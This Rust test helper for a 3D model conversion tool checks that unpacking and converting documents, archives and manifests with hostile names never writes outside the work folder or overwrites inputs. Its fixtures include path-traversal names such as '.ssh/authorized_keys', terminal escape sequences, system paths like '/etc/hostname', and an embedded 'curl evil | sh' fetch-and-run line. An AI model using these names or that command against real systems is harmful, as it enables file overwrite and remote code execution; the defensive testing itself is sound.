//! Runs commands that write with documents, archives and manifests of hostile names, into folders with existing files.
//! Only announced files may change, no file outside the folder and no input. Shared with the fuzz targets: each says
//! in its own way how the program is run.

use meshwright_testkit::mutate::Rng;
use meshwright_testkit::packs::{self, Method};
use meshwright_testkit::testdata;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

/// Names that a document or an archive may ask for.
const NAMES: &[&str] = &[
    ".bash_profile",
    ".ssh/authorized_keys",
    "..",
    "../up.png",
    "CON",
    "nul.png",
    "a\u{202e}gnp.sh",
    "a\u{1b}[2J\u{9b}b",
    "skin",
    "skin.png",
    "SKIN.PNG",
    "skin.jpg",
    "own.skel",
    "own.anim",
    "own.json",
    "d0",
    "d0.dpm",
    "d0.glb",
    "d1.iqm",
    "d1.dpm.framegroups",
    "y.dpm_0.skin",
    "link",
    "link.png",
    "x.cfp",
    "x.sh",
    "p.pk3",
    "folder/skin",
    "trail. ",
    "a:b",
    "\u{e9}\u{20ac}",
    "",
];

/// A name that is an absolute path, outside of every folder of a case.
static ABSOLUTE: LazyLock<String> = LazyLock::new(|| {
    let name = format!("meshwright-absolute-{}.png", std::process::id());
    std::env::temp_dir().join(name).to_string_lossy().into_owned()
});

/// Draws a name that a document or an archive asks for.
fn draw_name(rng: &mut Rng) -> &'static str {
    NAMES.get(rng.below(NAMES.len() + 1)).copied().unwrap_or(&ABSOLUTE)
}

/// The outcome of a run of the program.
pub(crate) struct Ran {
    /// The exit code; `None` after a signal or a timeout.
    pub(crate) code: Option<i32>,
    /// Standard output.
    pub(crate) out: Vec<u8>,
}

/// A function that runs the program with these arguments.
pub(crate) type Program<'p> = dyn FnMut(&[OsString]) -> Ran + 'p;

/// Runs one command that a seed chooses, in a new folder, and returns the promises that it broke.
pub(crate) fn attempt(seed: u64, folder: &Path, base: &[Vec<u8>], program: &mut Program<'_>) -> Vec<String> {
    let mut rng = Rng::new(seed);
    let top = folder.join("top");
    let _ = fs::remove_dir_all(&top);
    let place = Sandbox::plant(&top, base, &mut rng);
    let case = place.case(&mut rng);
    let before = snapshot(&top);
    let ran = program(&case.words);
    let after = snapshot(&top);
    let said: Vec<_> = case.words.iter().map(|w| w.to_string_lossy()).collect();
    let said = said.join(" ").replace(&*top.to_string_lossy(), "");
    let mut wrong = judged(&case, &ran, &before, &after, &top);
    if Path::new(&*ABSOLUTE).exists() {
        wrong.push("an absolute path was written".to_owned());
    }
    let _ = fs::remove_dir_all(&top);
    wrong.into_iter().map(|why| format!("seed {seed}: {said}: {why}")).collect()
}

/// Returns documents with embedded originals, from which cases are built.
pub(crate) fn base(folder: &Path, program: &mut Program<'_>) -> Vec<Vec<u8>> {
    // One has skins, which are embedded with it.
    let skinned = folder.join("skinned.dpm");
    let skinned = skinned.to_string_lossy();
    let models: [&[&str]; 5] = [
        &["dpm/hopper.ok.dpm"],
        &[&skinned],
        &["iqm/tube.ok.iqm"],
        &["dpm/pair.ok.zym"],
        &["tso/flower.ok.mesh", "--skeleton", "tso/flower.ok.skel", "--anim", "tso/sway.ok.anim"],
    ];
    let _ = fs::create_dir_all(folder);
    let _ = fs::copy(testdata().join("dpm/hopper.ok.dpm"), &*skinned);
    for number in 0..2 {
        let _ = fs::write(format!("{skinned}_{number}.skin"), "models/hopper/skin,models/hopper/skin\n");
    }
    let out = folder.join("base.glb");
    let mut made = Vec::new();
    for model in models {
        let _ = fs::remove_file(&out);
        let mut words: Vec<OsString> = ["convert", "-q", "--keep-native", "-o"].map(Into::into).to_vec();
        words.push(out.clone().into());
        words.extend(model.iter().map(|word| match word.starts_with('-') {
            true => word.into(),
            false => testdata().join(word).into(),
        }));
        program(&words);
        made.extend(fs::read(&out));
    }
    let _ = fs::remove_file(out);
    made
}

/// A command, and the files that it may change.
struct Case {
    words: Vec<OsString>,
    /// Files that the command reads.
    inputs: Vec<PathBuf>,
    /// True if existing files of others may be replaced.
    force: bool,
    dry: bool,
    manifest: Option<PathBuf>,
}

/// A folder with files, and a home folder that no command names.
struct Sandbox {
    work: PathBuf,
    documents: Vec<PathBuf>,
    archive: PathBuf,
}

impl Sandbox {
    fn plant(top: &Path, base: &[Vec<u8>], rng: &mut Rng) -> Self {
        let work = top.join("work");
        for folder in ["home", "work/in", "work/folder", "work/out"] {
            fs::create_dir_all(top.join(folder)).unwrap();
        }
        for (name, bytes) in [
            ("home/notes.txt", "outside"),
            ("work/skin.png", "mine"),
            ("work/own.skel", "mine"),
            ("work/own.json", r#"{"version":1,"files":[]}"#),
            ("work/folder/skin.png", "mine"),
            ("work/in/skin.png", "mine"),
            ("work/in/own.anim", "mine"),
            ("work/out/skin.png", "mine"),
            ("work/out/d1.dpm.framegroups.old", "mine"),
        ] {
            fs::write(top.join(name), bytes).unwrap();
        }
        #[cfg(unix)]
        for (name, to) in [("work/link.png", "../home/notes.txt"), ("work/out/link", "../../home")] {
            std::os::unix::fs::symlink(to, top.join(name)).unwrap();
        }
        let count = 1 + rng.below(3);
        let document = |i: usize, rng: &mut Rng| {
            let path = work.join(format!("in/d{i}.glb"));
            let bytes = match base.get(rng.below(base.len() + 1)) {
                Some(base) => hostile(base, rng),
                None => textured(rng),
            };
            fs::write(&path, bytes).unwrap();
            path
        };
        let documents = (0..count).map(|i| document(i, rng)).collect();
        let archive = work.join(*rng.pick(&["p.pk3", "p.pak", "p.vp", "p.far"]));
        fs::write(&archive, packed(&archive, rng)).unwrap();
        Self { work, documents, archive }
    }

    fn case(&self, rng: &mut Rng) -> Case {
        let mut words: Vec<OsString> = Vec::new();
        let mut inputs = self.documents.clone();
        let native = *rng
            .pick(&["dpm", "iqm", "zym", "mesh", "skel", "bmd", "cmx", "skn", "bmf", "obj", "gltf", "glb"]);
        let (mut force, mut dry, mut manifest) = (false, false, None);
        let out = self.work.join(*rng.pick(&["", "out", "in"]));
        if rng.below(4) == 0 {
            words.extend(["unpack".into(), self.archive.clone().into(), "-o".into(), out.into()]);
            inputs = vec![self.archive.clone()];
        } else {
            words.push("convert".into());
            if rng.below(2) == 0 {
                let path = out.join(format!("y.{native}"));
                words.extend([self.documents[0].clone().into(), "-o".into(), path.into()]);
                inputs.truncate(1);
            } else {
                words.extend([self.work.join("in").into(), "-o".into(), out.join("").into()]);
                words.extend(["--to".into(), native.into()]);
                inputs.extend(fs::read_dir(self.work.join("in")).unwrap().map(|e| e.unwrap().path()));
                if rng.below(3) == 0 {
                    let path = self.work.join(*rng.pick(&[
                        "m.json",
                        "own.json",
                        "out/d0.dpm",
                        "out/d0.glb",
                        "in/d0.glb",
                    ]));
                    if rng.below(2) == 0 {
                        let name = path.file_name() == Some("m.json".as_ref());
                        name.then(|| fs::write(&path, listed(rng)).unwrap());
                        words.push("--resume".into());
                    }
                    words.extend(["--manifest".into(), path.clone().into()]);
                    manifest = Some(path);
                }
            }
            for option in ["--dry-run", "--extras", "--no-textures"] {
                if rng.below(8) == 0 {
                    words.push(option.into());
                    dry |= option == "--dry-run";
                }
            }
        }
        match rng.below(6) {
            0 => {
                words.push("--force".into());
                force = true;
                // An image that no model reads is no input: with this option its name may be that of an output.
                inputs.retain(|path| path.extension() != Some("png".as_ref()));
            }
            1 => words.push("--no-clobber".into()),
            _ => {}
        }
        words.push("--format=json".into());
        Case { words, inputs, force, dry, manifest }
    }
}

/// The state of a file: its number and content, or the target of a link.
type State = (u64, Vec<u8>);

fn snapshot(top: &Path) -> BTreeMap<PathBuf, State> {
    let (mut all, mut open) = (BTreeMap::new(), vec![top.to_owned()]);
    while let Some(folder) = open.pop() {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            let path = entry.path();
            let kind = entry.file_type().unwrap();
            if kind.is_dir() {
                open.push(path);
                continue;
            }
            #[cfg(unix)]
            let number = std::os::unix::fs::DirEntryExt::ino(&entry);
            #[cfg(not(unix))]
            let number = 0;
            let content = match kind.is_symlink() {
                true => fs::read_link(&path).unwrap().into_os_string().into_encoded_bytes(),
                false => fs::read(&path).unwrap(),
            };
            all.insert(path, (number, content));
        }
    }
    all
}

fn judged(
    case: &Case,
    ran: &Ran,
    before: &BTreeMap<PathBuf, State>,
    after: &BTreeMap<PathBuf, State>,
    top: &Path,
) -> Vec<String> {
    let mut wrong = Vec::new();
    if !matches!(ran.code, Some(0..=3)) {
        wrong.push(format!("exit {:?}", ran.code));
    }
    let all: BTreeSet<&PathBuf> = before.keys().chain(after.keys()).collect();
    let changed: BTreeSet<PathBuf> =
        all.into_iter().filter(|path| before.get(*path) != after.get(*path)).cloned().collect();
    let Ok(document) = serde_json::from_slice::<Value>(&ran.out) else {
        wrong.push("standard output is no JSON document".to_owned());
        return wrong;
    };
    let mut announced = BTreeSet::new();
    collect(&document, &mut announced);
    if case.dry {
        announced.clear();
    } else {
        announced.extend(case.manifest.iter().filter(|path| changed.contains(*path)).cloned());
    }
    let shown = |path: &PathBuf| path.strip_prefix(top).unwrap_or(path).display().to_string();
    let list = |paths: &mut dyn Iterator<Item = &PathBuf>| paths.map(shown).collect::<Vec<_>>().join(", ");
    if announced != changed {
        let unsaid = list(&mut changed.difference(&announced));
        let missing = list(&mut announced.difference(&changed));
        wrong.push(format!("changed and not announced: [{unsaid}]; announced and not changed: [{missing}]"));
    }
    let outside: Vec<_> = changed.iter().filter(|path| !path.starts_with(top.join("work"))).collect();
    if !outside.is_empty() {
        wrong.push(format!("outside of the folder: {}", list(&mut outside.into_iter())));
    }
    let read: Vec<_> = case.inputs.iter().filter(|path| changed.contains(*path)).collect();
    if !read.is_empty() {
        wrong.push(format!("an input was replaced: {}", list(&mut read.into_iter())));
    }
    let named = |path: &&PathBuf| case.manifest.as_ref() != Some(*path);
    let own: Vec<_> = changed.iter().filter(|path| before.contains_key(*path)).filter(named).collect();
    if !own.is_empty() && !case.force {
        wrong.push(format!("foreign files were replaced: {}", list(&mut own.into_iter())));
    }
    let odd = |path: &&PathBuf| {
        let name = path.file_name().unwrap_or_default().to_string_lossy();
        name.starts_with('.') || name.chars().any(meshwright::acts_on_terminal)
    };
    let odd: Vec<_> = after.keys().filter(|path| !before.contains_key(*path)).filter(odd).collect();
    if !odd.is_empty() {
        wrong.push(format!("a name that no output has: {}", list(&mut odd.into_iter())));
    }
    // An input that counts as unchanged has its outputs.
    let converts = case.words.iter().any(|word| word == "convert");
    if converts && document["summary"]["unchanged"].as_u64().unwrap_or(0) > 0 {
        wrong.push("a hostile manifest counted as done".to_owned());
    }
    wrong
}

/// The paths of outputs in a document.
fn collect(value: &Value, paths: &mut BTreeSet<PathBuf>) {
    match value {
        Value::Object(fields) => {
            let is_kept = fields.contains_key("kept") || fields.contains_key("error");
            for (name, value) in fields {
                match (name.as_str(), value) {
                    // It may name the file that was not written.
                    ("error", _) => {}
                    ("output" | "backup", Value::String(path)) if !is_kept => {
                        paths.insert(path.into());
                    }
                    ("output", Value::Array(all)) => {
                        paths.extend(all.iter().filter_map(Value::as_str).map(PathBuf::from));
                    }
                    _ => collect(value, paths),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|item| collect(item, paths)),
        _ => {}
    }
}

/// Returns a GLB with this JSON and binary chunk.
pub(crate) fn glb(document: &Value, binary: &[u8]) -> Vec<u8> {
    let mut json = serde_json::to_vec(document).unwrap();
    json.resize(json.len().next_multiple_of(4), b' ');
    let mut binary = binary.to_vec();
    binary.resize(binary.len().next_multiple_of(4), 0);
    let word = |n: usize| u32::try_from(n).unwrap().to_le_bytes();
    [
        b"glTF\x02\0\0\0",
        &word(28 + json.len() + binary.len())[..],
        &word(json.len()),
        b"JSON",
        &json,
        &word(binary.len()),
        b"BIN\0",
        &binary,
    ]
    .concat()
}

/// Returns the JSON of a GLB and its binary chunk.
pub(crate) fn opened(glb: &[u8]) -> (Value, Vec<u8>) {
    let length = u32::from_le_bytes(glb[12..16].try_into().unwrap()) as usize;
    let document = serde_json::from_slice(&glb[20..20 + length]).unwrap();
    (document, glb.get(28 + length..).unwrap_or_default().to_vec())
}

/// Returns a triangle whose material has a picture, under a hostile name.
fn textured(rng: &mut Rng) -> Vec<u8> {
    let whole = rng.below(4) > 0;
    named_picture(draw_name(rng), draw_name(rng), if whole { PNG } else { b"#!/bin/sh\n" })
}

/// An image of one pixel.
pub(crate) const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde\0\0\0\x0cIDATx\x9cc\xf8\xcf\xc0\0\0\x03\x01\x01\0\xc9\xfe\x92\xef\0\0\0\0IEND\xaeB`\x82";

/// Returns a triangle whose material has a name and a picture.
pub(crate) fn named_picture(material: &str, image: &str, picture: &[u8]) -> Vec<u8> {
    let corners: [[f32; 3]; 3] = [[0.0, 0.0, 0.0], [1.0, 0.0, 0.0], [0.0, 1.0, 0.0]];
    let mut binary: Vec<u8> = corners.iter().flatten().flat_map(|n| n.to_le_bytes()).collect();
    binary.extend([0.0_f32, 0.0, 1.0, 0.0, 0.0, 1.0].iter().flat_map(|n| n.to_le_bytes()));
    binary.extend(picture);
    let document = json!({
        "asset": { "version": "2.0" },
        "scene": 0,
        "scenes": [{ "nodes": [0] }],
        "nodes": [{ "mesh": 0, "name": "n" }],
        "meshes": [{ "primitives": [{ "attributes": { "POSITION": 0, "TEXCOORD_0": 1 }, "material": 0 }] }],
        "materials": [{ "name": material, "pbrMetallicRoughness": { "baseColorTexture": { "index": 0 } } }],
        "textures": [{ "source": 0 }],
        "images": [{ "bufferView": 2, "mimeType": "image/png", "name": image }],
        "accessors": [
            { "bufferView": 0, "componentType": 5126, "count": 3, "type": "VEC3", "min": [0, 0, 0], "max": [1, 1, 0] },
            { "bufferView": 1, "componentType": 5126, "count": 3, "type": "VEC2" },
        ],
        "bufferViews": [
            { "buffer": 0, "byteLength": 36 },
            { "buffer": 0, "byteOffset": 36, "byteLength": 24 },
            { "buffer": 0, "byteOffset": 60, "byteLength": picture.len() },
        ],
        "buffers": [{ "byteLength": binary.len() }],
    });
    glb(&document, &binary)
}

/// Returns a document with an embedded original whose files have other names, roles and kinds, or are more numerous.
fn hostile(base: &[u8], rng: &mut Rng) -> Vec<u8> {
    let extra = (rng.below(3) > 0).then(|| {
        let roles = ["keys", "skeleton", "animation", "binding", "clips", "metadata", "part", "skin"];
        let role = *rng.pick(&roles);
        let format = *rng.pick(&["cfp", "skel", "anim", "bnd", "mesh", "cmx", "framegroups", ""]);
        let bytes: &[u8] = rng.pick::<&[u8]>(&[&b"curl evil | sh\n"[..], b"1 4 10 1 walk\n", b""]);
        (role, format, draw_name(rng), bytes.to_vec())
    });
    let rename = (rng.below(2) == 0).then(|| draw_name(rng));
    let mut edited = with_kept(base, rename, extra.as_ref().map(|(r, f, n, b)| (*r, *f, *n, &**b)));
    if rng.below(3) == 0 {
        let (mut document, binary) = opened(&edited);
        let name = draw_name(rng);
        for list in ["materials", "meshes", "nodes", "animations"] {
            let at = rng.below(8);
            if let Some(item) = document[list].get_mut(at) {
                item["name"] = name.into();
            }
        }
        edited = glb(&document, &binary);
    }
    edited
}

/// Returns a document whose embedded original has its last companion renamed, and a further file: role, kind, name and bytes.
pub(crate) fn with_kept(
    base: &[u8],
    rename: Option<&str>,
    extra: Option<(&str, &str, &str, &[u8])>,
) -> Vec<u8> {
    let (mut document, binary) = opened(base);
    let Some(text) = document.pointer_mut("/scenes/0/extras/meshwright") else { return base.to_vec() };
    let mut own: Value = serde_json::from_str(text.as_str().unwrap_or("null")).unwrap();
    let Some(kept) = own.get_mut("kept") else { return base.to_vec() };
    let files = kept["files"].as_array_mut().unwrap();
    if let (Some(name), Some(last)) = (rename, files.last_mut()) {
        last["name"] = name.into();
    }
    if let Some((role, format, name, bytes)) = extra {
        let hash: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
        let mut file =
            json!({ "role": role, "name": name, "as": name, "sha256": hash, "lz4": to_base64(&lz4(bytes)) });
        if !format.is_empty() {
            file["format"] = format.into();
        }
        files.push(file);
    }
    document["scenes"][0]["extras"]["meshwright"] = own.to_string().into();
    glb(&document, &binary)
}

/// Returns the size of bytes and an LZ4 block that holds them as literals.
fn lz4(bytes: &[u8]) -> Vec<u8> {
    let mut out = u32::try_from(bytes.len()).unwrap().to_le_bytes().to_vec();
    out.push(if bytes.len() < 15 { u8::try_from(bytes.len()).unwrap() << 4 } else { 0xf0 });
    if let Some(rest) = bytes.len().checked_sub(15) {
        out.extend(std::iter::repeat_n(255, rest / 255));
        out.push(u8::try_from(rest % 255).unwrap());
    }
    out.extend(bytes);
    out
}

const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn to_base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let number = (0..3).fold(0, |n, i| n << 8 | usize::from(three.get(i).copied().unwrap_or(0)));
        for i in 0..4 {
            let digit = char::from(DIGITS[number >> (18 - 6 * i) & 63]);
            out.push(if i <= three.len() { digit } else { '=' });
        }
    }
    out
}

/// Returns an archive of files with hostile names.
fn packed(path: &Path, rng: &mut Rng) -> Vec<u8> {
    let dpm = fs::read(testdata().join("dpm/quad.ok.dpm")).unwrap();
    let names: BTreeSet<&str> = (0..1 + rng.below(6)).map(|_| draw_name(rng)).collect();
    let own = path.file_name().unwrap().to_str().unwrap();
    let names = names.into_iter().filter(|name| name.len() < 50).chain((rng.below(3) == 0).then_some(own));
    let files: Vec<(&str, &[u8])> = names.map(|name| (name, &*dpm)).collect();
    match path.extension().and_then(|e| e.to_str()) {
        Some("pak") => packs::pak(&files),
        Some("vp") => packs::vp(&files.into_iter().filter(|(name, _)| name.len() < 31).collect::<Vec<_>>()),
        Some("far") => packs::far(&files),
        _ => packs::zip(&files, Method::Stored),
    }
}

/// Returns a manifest that says that everything is done.
fn listed(rng: &mut Rng) -> String {
    let path = *rng.pick(&[
        "/dev/zero",
        "/etc/hostname",
        "../home/notes.txt",
        "skin.png",
        "link",
        "",
        "..",
        "out/../skin.png",
    ]);
    let outputs =
        if rng.below(3) == 0 { json!([]) } else { json!([{ "path": path, "sha256": "0", "bytes": 1 }]) };
    let files: Vec<Value> = (0..3)
        .map(|i| json!({ "input": format!("d{i}.glb"), "parts": [], "outputs": outputs, "losses": {} }))
        .collect();
    let document = json!({ "version": 1, "options": "0".repeat(64), "files": files, "summary": {} });
    document.to_string()
}
